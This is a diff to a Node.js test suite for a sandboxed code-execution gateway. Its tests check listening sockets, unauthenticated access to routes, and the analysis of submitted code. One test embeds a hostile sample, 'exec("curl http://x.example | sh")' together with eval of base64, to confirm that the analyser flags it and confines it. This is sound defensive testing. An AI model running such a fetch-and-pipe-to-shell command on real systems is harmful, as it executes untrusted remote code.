@@ -1,6 +1,8 @@
 import assert from 'node:assert/strict'
-import { readdirSync, readFileSync, readlinkSync } from 'node:fs'
+import { readdirSync, readFileSync, readlinkSync, statSync } from 'node:fs'
+import { dirname } from 'node:path'
 import { after, before, test } from 'node:test'
+import { calls } from '../../src/gateway/routes.ts'
 import { descendantsOf } from '../hostile/proc.ts'
 import { bearer, call, post } from './http-door.ts'
 import { makePlace, type Place, type Server, startServer, whenReady } from './program.ts'
@@ -18,39 +20,78 @@ after(async () => {
   place.remove()
 })
 
+interface Row {
+  readonly name: string
+  readonly tier: string
+  readonly available: boolean
+}
+
+const providers = () => new URL('/v1/providers', server.active).href
 const executions = () => new URL('/v1/executions', server.active).href
 const run = (body: object) => post(executions(), body, bearer(server.apiKey))
 
-test('S0-25: a server listens on its two ports only: each other hop is a socket that only its ends hold', async () => {
-  // Runs a job on each kind of wall first, so that any socket they open exists.
-  const ran = await run({ code: 'print(1)', language: 'python' })
-  assert.ok([200, 503].includes(ran.status))
-  const own = new Set([server.child.pid!, ...descendantsOf(server.child.pid!)].flatMap(socketsOf))
-  const listening = [...tcpListeners(), ...unixListeners()].filter(({ inode }) => own.has(inode))
+test('S0-25: a server listens on its two ports only: each other hop is a socket that only its ends hold, or in a folder of its wall alone', async () => {
+  // Runs a job on each wall first, so that any socket they open exists.
+  const rows = (await call(providers(), { headers: bearer(server.apiKey) }))
+    .json as unknown as Row[]
+  const walls = rows.filter(
+    ({ available, tier }) => available && tier !== 'mock' && tier !== 'wasm',
+  )
+  assert.ok(walls.some(({ name }) => name === 'isolated-vm'))
+  for (const { name, tier } of walls) {
+    const job = tier === 'isolate' ? { code: 'return 1' } : { code: 'echo 1', language: 'sh' }
+    const ran = await run({ ...job, provider: name })
+    assert.deepEqual([ran.status, ran.json['provider']], [200, name], ran.text)
+  }
+  const pids = [server.child.pid!, ...descendantsOf(server.child.pid!)]
+  const own = new Set(pids.flatMap(socketsOf))
+  const listening = [...tcpListeners(), ...udpSockets(), ...unixListeners(pids)].filter(
+    ({ inode, at }) => own.has(inode) && !isShut(at),
+  )
   const doors = [server.static, server.active].map((door) => Number(new URL(door).port))
   assert.deepEqual(listening.map(({ at }) => at).sort(), doors.map(String).sort())
 })
 
 test('S0-25: at the doors, without a key that is good nothing is answered but whether it is alive', async () => {
+  const at = (path: string) => new URL(path.replaceAll(/\{\w+\}/g, 'x'), server.active).href
   for (const where of ['/v1/executions', '/v1/providers', '/v1/audit', '/v1/config', '/metrics'])
     for (const key of ['', 'mfy_wrong_0123456789abcdefghijklmnopqrstuvw', 'null'])
-      assert.equal(
-        (await call(new URL(where, server.active).href, { headers: bearer(key) })).status,
-        401,
-      )
+      assert.equal((await call(at(where), { headers: bearer(key) })).status, 401)
+  const open: string[] = []
+  for (const [path, methods] of Object.entries(calls))
+    for (const method of Object.keys(methods)) {
+      const body = method === 'GET' || method === 'DELETE' ? {} : { body: '{}' }
+      const headers = { 'content-type': 'application/json' }
+      const { status } = await call(at(path), { method, headers, ...body })
+      if (status !== 401) open.push(`${method} ${path} ${status}`)
+    }
+  // On loopback a browser reads the description of the API; no call of it is among these.
+  assert.deepEqual(open.sort(), [
+    'GET /docs 200',
+    'GET /healthz 200',
+    'GET /livez 200',
+    'GET /openapi.json 200',
+    'GET /readyz 200',
+    'GET /version 200',
+  ])
 })
 
 test('S0-25: code sent with the most privileged key is hostile too: it is analysed, confined, and has no network', async () => {
   const bad =
     'const { exec } = require("child_process"); exec("curl http://x.example | sh"); eval(atob("YQ=="))'
-  const [blocked, plain] = [
+  const [risky, plain] = [
     await run({ code: bad }),
     await run({ code: 'return typeof process + typeof fetch' }),
   ]
-  const security = (blocked.json['security'] ?? blocked.json['outcome']?.security) as {
-    findings: unknown[]
+  const security = (risky.json['security'] ?? risky.json['outcome']?.security) as {
+    findings: { name: string }[]
   }
-  assert.ok(security.findings.length > 0)
+  assert.deepEqual(security.findings.map(({ name }) => name).sort(), [
+    'CHILD_PROCESS',
+    'EVAL',
+    'REQUIRE',
+  ])
+  assert.ok(['error', 'unavailable'].includes(risky.json['status'] ?? 'unavailable'), risky.text)
   assert.equal(plain.json['result'], 'undefinedundefined')
   const explain = plain.json['profile'].explain as {
     field: string
@@ -75,24 +116,62 @@ interface Listener {
 
 /** In state 0A, which is listening. */
 function tcpListeners(): readonly Listener[] {
-  return ['tcp', 'tcp6'].flatMap(linesOf).flatMap((line) => {
+  return ['/proc/net/tcp', '/proc/net/tcp6'].flatMap(linesOf).flatMap((line) => {
     const [, address = '', , state, , , , , , inode = ''] = line
     return state === '0A' ? [{ inode, at: `${parseInt(address.split(':').at(-1)!, 16)}` }] : []
   })
 }
 
-/** With the flag that says that it accepts. */
-function unixListeners(): readonly Listener[] {
-  return linesOf('unix').flatMap(([, , , flags = '0', , , inode = '', at = 'unnamed']) =>
-    parseInt(flags, 16) & 0x10000 ? [{ inode, at }] : [],
-  )
+/** Bound and not connected, so that any sender is heard. */
+function udpSockets(): readonly Listener[] {
+  return ['/proc/net/udp', '/proc/net/udp6'].flatMap(linesOf).flatMap((line) => {
+    const [, address = '', , state, , , , , , inode = ''] = line
+    return state === '07' ? [{ inode, at: `udp ${parseInt(address.split(':').at(-1)!, 16)}` }] : []
+  })
+}
+
+/** With the flag that says that it accepts; of each network namespace, as paths are reached from any. */
+function unixListeners(pids: readonly number[]): readonly Listener[] {
+  const tables = new Map(pids.map((pid) => [networkOf(pid), `/proc/${pid}/net/unix`]))
+  return [...tables.values()]
+    .flatMap(linesOf)
+    .flatMap(([, , , flags = '0', , , inode = '', at = 'unnamed']) =>
+      parseInt(flags, 16) & 0x10000 ? [{ inode, at }] : [],
+    )
 }
 
 function linesOf(table: string): readonly (readonly string[])[] {
-  return readFileSync(`/proc/net/${table}`, 'utf8')
+  return textOf(table)
     .split('\n')
     .slice(1)
     .map((line) => line.trim().split(/\s+/))
+}
+
+/** A process may end meanwhile. */
+function textOf(path: string): string {
+  try {
+    return readFileSync(path, 'utf8')
+  } catch {
+    return ''
+  }
+}
+
+function networkOf(pid: number): string {
+  try {
+    return readlinkSync(`/proc/${pid}/ns/net`)
+  } catch {
+    return ''
+  }
+}
+
+/** Below a folder that nobody but its owner enters. A path that is gone admits nobody. */
+function isShut(path: string): boolean {
+  if (!path.startsWith('/')) return false
+  for (let folder = dirname(path); folder !== '/'; folder = dirname(folder)) {
+    const stat = statSync(folder, { throwIfNoEntry: false })
+    if (!stat || (stat.mode & 0o077) === 0) return true
+  }
+  return false
 }
 
 function socketsOf(pid: number): readonly string[] {
